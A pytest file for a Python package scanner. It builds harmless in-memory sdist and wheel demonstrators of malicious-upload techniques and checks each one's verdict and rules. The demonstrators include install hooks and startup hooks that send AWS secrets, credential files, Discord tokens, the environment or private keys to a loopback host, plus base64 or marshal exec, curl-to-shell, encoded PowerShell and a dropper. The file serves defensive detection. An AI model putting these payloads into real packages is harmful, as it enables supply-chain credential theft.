# ruff: noqa: E501  (the demonstrators' source text keeps its long lines)
"""Each technique of real malicious uploads, as a harmless demonstrator, gets its verdict and rules.

The demonstrators are built in memory (``builders``), "exfiltrate" to 127.0.0.1 only, and
are never installed, imported or run: the scanner reads their bytes.
"""

from __future__ import annotations

import base64
import marshal
import random
import zlib

import pytest

from tests.protect.scan.builders import (
    LOOPBACK,
    PLAIN_SETUP,
    SMALL_LIBRARY,
    Case,
    check,
    code,
    demo_sdist,
    pkg_info,
    scan,
    wheel,
)

pytestmark = pytest.mark.one_backend

HIDDEN = base64.b64encode(
    f"import urllib.request; urllib.request.urlopen('{LOOPBACK}/x')".encode()
).decode()
PACKED = base64.b64encode(zlib.compress(marshal.dumps(compile("x = 1", "<demo>", "exec")))).decode()

CASES = [
    Case(
        "install-command-steals-secrets",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "setup.py": code(f"""
            import os, json, urllib.request
            from setuptools import setup
            from setuptools.command.install import install

            class PostInstall(install):
                def run(self):
                    install.run(self)
                    token = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
                    body = json.dumps({{"token": token}}).encode()
                    urllib.request.urlopen(urllib.request.Request("{LOOPBACK}/c", data=body))

            setup(name="demo", version="1.0", cmdclass={{"install": PostInstall}})
            """)
            }
        ),
        "malicious",
        frozenset({"install-exfiltration", "install-network", "secrets-env", "install-hook"}),
    ),
    Case(
        "setup-top-level-beacon",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "setup.py": code(f"""
            import getpass, socket
            import requests
            from setuptools import setup

            requests.get("{LOOPBACK}/b", params={{"u": getpass.getuser(), "h": socket.gethostname()}})
            setup(name="demo", version="1.0")
            """)
            }
        ),
        "malicious",
        frozenset({"install-beacon", "install-network", "install-host-info"}),
    ),
    Case(
        "pth-startup-hook",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                "demo/__init__.py": "",
                "demo-hook.pth": f"import urllib.request; urllib.request.urlopen('{LOOPBACK}/pth')\n",
            },
        ),
        "malicious",
        frozenset({"startup-hook-payload", "pth-exec"}),
    ),
    Case(
        "sitecustomize",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                "sitecustomize.py": f"import subprocess\nsubprocess.Popen(['curl', '{LOOPBACK}/s'])\n",
            },
        ),
        "malicious",
        frozenset({"sitecustomize", "startup-hook-payload", "process-network"}),
    ),
    Case(
        "import-time-credential-theft",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                "demo/__init__.py": code(f"""
            import os
            import requests

            def _collect():
                path = os.path.expanduser("~/.aws/credentials")
                with open(path) as handle:
                    requests.post("{LOOPBACK}/k", data=handle.read())

            _collect()
            """)
            },
        ),
        "malicious",
        frozenset({"import-exfiltration", "import-network", "cloud-credentials"}),
    ),
    Case(
        "exec-of-base64",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {"demo/__init__.py": f"import base64\nexec(base64.b64decode('{HIDDEN}'))\n"},
        ),
        "malicious",
        frozenset({"exec-hidden", "exec-decoded"}),
    ),
    Case(
        "exec-of-marshal-zlib-blob-in-a-function",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                "demo/util.py": code(f"""
            import base64, marshal, zlib

            def helper():
                exec(marshal.loads(zlib.decompress(base64.b64decode("{PACKED}"))))
            """)
            },
        ),
        "malicious",
        frozenset({"exec-hidden", "exec-decoded-runtime"}),
    ),
    Case(
        "download-and-run",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "setup.py": code(f"""
            from urllib.request import urlopen
            from setuptools import setup
            exec(urlopen("{LOOPBACK}/stage2.py").read())
            setup(name="demo", version="1.0")
            """)
            }
        ),
        "malicious",
        frozenset({"exec-remote", "install-network"}),
    ),
    Case(
        "install-command-runs-curl",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "setup.py": code(f"""
            import os
            from setuptools import setup
            from setuptools.command.develop import develop

            class Develop(develop):
                def run(self):
                    os.system("curl -s {LOOPBACK}/p.sh -o /tmp/p.sh")
                    develop.run(self)

            setup(name="demo", version="1.0", cmdclass={{"develop": Develop}})
            """)
            }
        ),
        "malicious",
        frozenset({"process-network", "install-network-tool"}),
    ),
    Case(
        "run-decoded-command",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "setup.py": code(f"""
            import base64, subprocess
            from setuptools import setup

            def unpack(blob):
                return base64.b64decode(blob).decode()

            subprocess.run(unpack("{base64.b64encode(f"curl {LOOPBACK}".encode()).decode()}"), shell=True)
            setup(name="demo", version="1.0")
            """)
            }
        ),
        "malicious",
        frozenset({"process-decoded"}),
    ),
    Case(
        "discord-token-stealer",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                "demo/grab.py": code(f"""
            import os, re, requests

            def grab():
                base = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
                tokens = []
                for name in os.listdir(base):
                    tokens += re.findall(r"[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{27}}", open(os.path.join(base, name), errors="ignore").read())
                requests.post("{LOOPBACK}/api/webhooks/1234567/demo", json={{"content": tokens}})
            """)
            },
        ),
        "malicious",
        frozenset({"stealer-exfiltration", "discord-token", "webhook-endpoint"}),
    ),
    Case(
        "encoded-powershell",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "setup.py": code(f"""
            import subprocess
            from setuptools import setup
            subprocess.Popen("powershell -w hidden -enc {base64.b64encode(f"iwr {LOOPBACK}".encode("utf-16-le")).decode()}", shell=True)
            setup(name="demo", version="1.0")
            """)
            }
        ),
        "malicious",
        frozenset({"encoded-powershell", "process-network"}),
    ),
    Case(
        "packed-code",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                "demo/__init__.py": code(f"""
            from .pytransform import pyarmor_runtime
            pyarmor_runtime()
            __pyarmor__(__name__, __file__, b"{PACKED}")
            """)
            },
        ),
        "suspicious",
        frozenset({"packed-code"}),
    ),
    Case(
        "in-tree-build-backend",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
                "_build/backend.py": code(f"""
                import os, urllib.request

                def build_wheel(directory, settings=None, metadata=None):
                    urllib.request.urlopen("{LOOPBACK}/?t=" + os.environ.get("GITHUB_TOKEN", ""))
                    raise SystemExit
                """),
            }
        ),
        "malicious",
        frozenset({"install-exfiltration", "install-network"}),
    ),
    Case(
        "dropper-writes-and-runs-an-executable",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                "demo/__init__.py": code(f"""
            import os, subprocess, tempfile, urllib.request
            target = os.path.join(tempfile.gettempdir(), "update.exe")
            with open(target, "wb") as handle:
                handle.write(urllib.request.urlopen("{LOOPBACK}/update.exe").read())
            subprocess.Popen([target], creationflags=0x08000000)
            """)
            },
        ),
        "malicious",
        frozenset({"import-download-run", "drop-and-run", "remote-executable", "hidden-process"}),
    ),
    Case(
        "anonymous-upload-runs-a-program-at-install",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "setup.py": code("""
                import subprocess
                from setuptools import setup
                subprocess.run(["python", "-c", "print(1)"])
                setup(name="demo", version="1.0")
                """)
            },
            info="Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
        ),
        "suspicious",
        frozenset({"anonymous-install-code", "metadata-empty-description"}),
    ),
    Case(
        "entry-point-posts-to-a-webhook",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                "demo/__init__.py": "",
                "demo/cli.py": code(f"""
                import platform, requests

                def main():
                    requests.post("{LOOPBACK}/api/webhooks/1234567890/token", json={{"host": platform.node()}})
                """),
                "demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:main\n",
            },
        ),
        "suspicious",
        frozenset({"exfil-endpoint-network", "webhook-endpoint"}),
    ),
    Case(
        "install-time-hidden-window",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "setup.py": code("""
            import subprocess
            from setuptools import setup
            subprocess.Popen(["updater"], creationflags=0x08000000)
            setup(name="demo", version="1.0")
            """)
            }
        ),
        "suspicious",
        frozenset({"hidden-process"}),
    ),
    Case(
        "function-sends-the-environment",
        "demo-1.0-py3-none-any.whl",
        wheel(
            "demo",
            "1.0",
            {
                "demo/__init__.py": "",
                "demo/report.py": code(f"""
            import os, urllib.request

            def report():
                urllib.request.urlopen("{LOOPBACK}/e", data=repr(dict(os.environ)).encode())
            """),
            },
        ),
        "suspicious",
        frozenset({"env-exfil"}),
    ),
    Case(
        "wallet-helper-sends-the-private-key",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "demo/__init__.py": "from .main import sign\n",
                "demo/main.py": code(f"""
            import requests

            def sign(private_key):
                payload = {{"key": private_key}}
                requests.post("{LOOPBACK}/k", json=payload)
            """),
            }
        ),
        "suspicious",
        frozenset({"key-exfil"}),
    ),
    Case(
        "import-time-dns-call-home",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "demo/__init__.py": code("""
            import socket

            def _probe():
                socket.gethostbyname("demo.callhome.invalid")

            _probe()
            """)
            }
        ),
        "suspicious",
        frozenset({"dns-beacon"}),
    ),
    Case(
        "obfuscator-banner-and-escaped-eval",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "demo/__init__.py": code("""
            # Obfuscated with SomeObfuscator
            _e = eval("\\145\\166\\x61\\x6c")
            """)
            }
        ),
        "suspicious",
        frozenset({"packed-code", "eval-escaped-literal"}),
    ),
    Case(
        "oversized-setup-runs-decoded-code",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "setup.py": code(f"""
            import base64
            from setuptools import setup
            setup(name="demo", version="1.0")
            exec(base64.b64decode("{HIDDEN}"))
            """)
                + "# "
                + random.Random(0).randbytes(600_000).hex()
                + "\n"
            }
        ),
        "malicious",
        frozenset({"oversized-code", "exec-decoded-text"}),
    ),
    Case(
        "exec-aliased-among-builtins",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "demo/__init__.py": code("""
            Run, Text = exec, str
            Run(Text("x = 1"))
            """)
            }
        ),
        "suspicious",
        frozenset({"exec-alias"}),
    ),
    Case(
        "import-time-recon",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "demo/__init__.py": code("""
            import getpass, subprocess
            subprocess.run(["echo", getpass.getuser()])
            """)
            }
        ),
        "suspicious",
        frozenset({"import-recon"}),
    ),
    Case(
        "typosquat-home-calls-on-import",
        "demo-1.0.tar.gz",
        demo_sdist(
            {
                "demo/__init__.py": f"import urllib.request\nurllib.request.urlopen('{LOOPBACK}/hi')\n"
            },
            info=pkg_info("demo", "1.0", home="https://github.com/someone/requests"),
        ),
        "suspicious",
        frozenset({"foreign-home-import-network", "import-network"}),
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_demonstrator_gets_its_verdict_and_rules(case: Case) -> None:
    check(case)


def test_plain_package_is_clean() -> None:
    data = demo_sdist(
        {
            "setup.py": PLAIN_SETUP,
            "demo/tools.py": code("""
            import subprocess

            def run(command):
                return subprocess.run(command, check=True, capture_output=True).stdout
            """),
            "tests/test_tools.py": "import requests\nrequests.get('https://example.org')\n",
        }
    )
    report = scan(data, "demo-1.0.tar.gz")
    assert report.verdict == "clean", report.findings
    assert not [f for f in report.findings if f.severity not in ("info", "low")]


def test_metadata_hints_are_low_weight_findings() -> None:
    info = pkg_info("demo", "1.0", summary="", home="https://github.com/someone/requests")
    info = info.split("\n\n")[0] + "\n"  # no description either
    # with code of its own (an empty package with empty metadata is a placeholder squat)
    files = {"setup.py": PLAIN_SETUP, "demo/text.py": SMALL_LIBRARY}
    report = scan(demo_sdist(files, info=info), "demo-1.0.tar.gz")
    rules = {f.rule: f.severity for f in report.findings}
    assert rules.get("metadata-empty-description") == "low"
    assert rules.get("metadata-foreign-homepage") == "low"
    assert report.verdict == "clean"


def test_findings_carry_path_line_and_excerpt() -> None:
    report = scan(CASES[1].data, CASES[1].filename)
    network = next(f for f in report.findings if f.rule == "install-network")
    assert network.path == "demo-1.0/setup.py"
    assert network.line == 5
    assert network.excerpt.startswith("requests.get(")


def test_python_2_source_falls_back_to_text_rules() -> None:
    data = demo_sdist(
        {
            "setup.py": code(f"""
        import urllib2, os
        print "installing"
        exec urllib2.urlopen("{LOOPBACK}/x").read()
        os.system("curl {LOOPBACK}/y | sh")
        """)
        }
    )
    report = scan(data, "demo-1.0.tar.gz")
    rules = {f.rule for f in report.findings}
    assert "unparsable-python" in rules and "shell-download" in rules
    assert report.verdict == "malicious"


def test_metadata_of_archives_carried_as_test_data_is_not_the_distributions() -> None:
    fixture = wheel(
        "fixture",
        "0.1",
        {"fixture/__init__.py": ""},
        info="Metadata-Version: 2.1\nName: fixture\nVersion: 0.1\n",
    )
    data = demo_sdist({"setup.py": PLAIN_SETUP, "tests/fixture-0.1-py3-none-any.whl": fixture})
    report = scan(data, "demo-1.0.tar.gz")
    assert "metadata-empty-description" not in {f.rule for f in report.findings}
    assert report.verdict == "clean"


def test_prebuilt_library_in_an_sdist_is_a_medium_finding() -> None:
    data = demo_sdist(
        {"setup.py": PLAIN_SETUP, "demo/_core.so": b"\x7fELF\x02\x01\x01" + bytes(64)}
    )
    rules = {f.rule: f.severity for f in scan(data, "demo-1.0.tar.gz").findings}
    assert rules.get("native-in-sdist") == "medium"
    wheel_data = wheel(
        "demo", "1.0", {"demo/__init__.py": "", "demo/_core.so": b"\x7fELF" + bytes(64)}
    )
    assert "native-in-sdist" not in {
        f.rule for f in scan(wheel_data, "demo-1.0-py3-none-any.whl").findings
    }
